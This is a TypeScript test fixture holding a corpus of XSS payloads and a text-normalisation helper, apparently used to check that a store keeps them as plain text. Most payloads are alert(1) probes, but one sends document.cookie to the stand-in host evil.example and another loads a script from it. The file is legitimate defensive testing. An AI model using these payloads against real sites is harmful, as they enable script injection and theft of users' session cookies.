/**
 * A corpus of classic XSS payloads (script tags, event handlers, javascript: URLs, SVG/MathML,
 * mutation XSS, template injection, unicode tricks) for tests that store them and check they stay text.
 */

/** Each payload is at most 120 characters, so it fits every text field except the short keyword field. */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>alert(document.cookie)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
  '<img src="x" onerror="fetch(`//evil.example/?c=${document.cookie}`)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">entity colon</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '</textarea><script>alert(1)</script>',
  '</title></style></noscript><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template injection is the payload
  '${alert(1)} and #{alert(1)} and <%= alert(1) %>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '&lt;script&gt;alert(1)&lt;/script&gt; already escaped',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞ fullwidth',
  '<scr\u200bipt>alert(1)</scr\u200bipt> zero width',
  '\u202e<img src=x onerror=alert(1)> right-to-left override',
  'java\u0000script:alert(1) with a NUL',
  '<mark onclick=alert(1)>fake highlight</mark> <b>bold</b>',
];

/** What the store keeps of a text it was sent: control characters removed (tab and newline stay), trimmed unless exact. */
export function storedText(text: string, exact = false): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: mirrors the store's own normalisation
  const stripped = text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '');
  return exact ? stripped : stripped.trim();
}
